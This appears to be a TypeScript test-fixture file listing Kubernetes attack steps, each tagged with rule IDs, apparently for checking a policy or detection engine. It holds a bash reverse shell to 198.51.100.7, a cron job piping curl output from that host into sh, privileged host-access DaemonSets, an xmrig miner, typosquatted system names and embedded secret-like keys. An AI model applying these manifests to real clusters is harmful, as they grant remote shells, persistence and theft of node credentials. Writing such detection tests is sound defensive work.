import { attack } from '../ask.ts';
import { configMap, container, cronJob, goodSpec, job, named, pod, workload } from '../objects.ts';
import type { AttackStep } from '../step.ts';
import { jupyterClient, svetlana, tomas } from './attackers.ts';

const core = '/api/v1';
const system = `${core}/namespaces/kube-system`;
const web = `${core}/namespaces/web`;
const apps = '/apis/apps/v1/namespaces';
const shell = ['sh', '-c', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'];
const strong = { hostPID: true, hostNetwork: true, containers: [container({ securityContext: { privileged: true } })] };
const workloads = attack(
  'persistence',
  [
    'EX13 PE01',
    svetlana.post('on every node, all rights', `${apps}/kube-system/daemonsets`, workload('DaemonSet', 'node-health', strong)),
  ],
  ['EX13', jupyterClient.post('on every node', `${apps}/ml/daemonsets`, workload('DaemonSet', 'cache', goodSpec()))],
  [
    'PE01',
    tomas.json('all rights added', `${apps}/web/deployments/shop`, [
      { op: 'add', path: '/spec/template/spec/containers/0/securityContext', value: { privileged: true } },
    ]),
  ],
  [
    'PE02',
    svetlana.apply(
      'files of the node by applying',
      `${apps}/web/deployments/applied`,
      workload('Deployment', 'applied', {
        containers: [container({ volumeMounts: [{ name: 'k', mountPath: '/k' }] })],
        volumes: [{ name: 'k', hostPath: { path: '/etc/kubernetes' } }],
      }),
    ),
  ],
  [
    'EX20 EX19 EX15 N02',
    tomas.strategic('another image', `${apps}/web/deployments/shop`, {
      spec: { template: { spec: { containers: [{ name: 'main', image: 'docker.io/someone/shop:latest' }] } } },
    }),
  ],
  [
    'EX20',
    tomas.json('one more container', `${apps}/web/deployments/shop`, [
      { op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'log', image: 'alpine', command: ['sleep', '1d'] } },
    ]),
  ],
  [
    'PS01 EX29',
    tomas.post(
      'comes again every minute',
      '/apis/batch/v1/namespaces/web/cronjobs',
      cronJob('cleanup', {
        containers: [container({ image: 'curlimages/curl', command: ['sh', '-c', 'curl -s https://198.51.100.7/b | sh'] })],
      }),
    ),
  ],
  [
    'EX29',
    tomas.post(
      'reverse shell as a job',
      '/apis/batch/v1/namespaces/web/jobs',
      job('migrate', { containers: [container({ command: shell })] }),
    ),
  ],
  [
    'EX29',
    tomas.post(
      'reverse shell when it starts',
      `${web}/pods`,
      pod('start', { containers: [container({ lifecycle: { postStart: { exec: { command: shell } } } })] }),
    ),
  ],
  [
    'N29',
    jupyterClient.post(
      'miner',
      `${apps}/ml/deployments`,
      workload('Deployment', 'trainer', {
        containers: [container({ image: 'xmrig/xmrig:6.21', args: ['-o', 'stratum+ssl://xmr.pool.example:443', '-u', '4A'] })],
      }),
    ),
  ],
  [
    'N29 N38',
    jupyterClient.post('very many', `${apps}/ml/deployments`, {
      ...workload('Deployment', 'grid', {}),
      spec: {
        ...(
          workload('Deployment', 'grid', {
            containers: [container({ resources: { requests: { cpu: '64', memory: '512Gi' } } })],
          }) as { spec: object }
        ).spec,
        replicas: 500,
      },
    }),
  ],
  ['PS09', svetlana.post('account in the system', `${system}/serviceaccounts`, named('ServiceAccount', 'metrics-reader'))],
  ['N30', svetlana.post('name like one of the system', `${system}/serviceaccounts`, named('ServiceAccount', 'kube-pr0xy'))],
  ['N30 PS15', svetlana.post('namespace like that of the system', `${core}/namespaces`, named('Namespace', 'kube-systern'))],
  [
    'PE32',
    svetlana.merge('role of a cloud for an account', `${web}/serviceaccounts/default`, {
      metadata: { annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/admin' } },
    }),
  ],
  [
    'N40 CA09',
    tomas.post(
      'password in the environment',
      `${web}/pods`,
      pod('import', {
        containers: [container({ env: [{ name: 'AWS_SECRET_ACCESS_KEY', value: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' }] })],
      }),
    ),
  ],
  [
    'CA09 N40',
    tomas.post(
      'key in a config map',
      `${web}/configmaps`,
      configMap('deploy-key', {
        id_rsa: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n',
      }),
    ),
  ],
);

/** Workloads that stay or carry something. */
export const workloadSteps: readonly AttackStep[] = workloads;
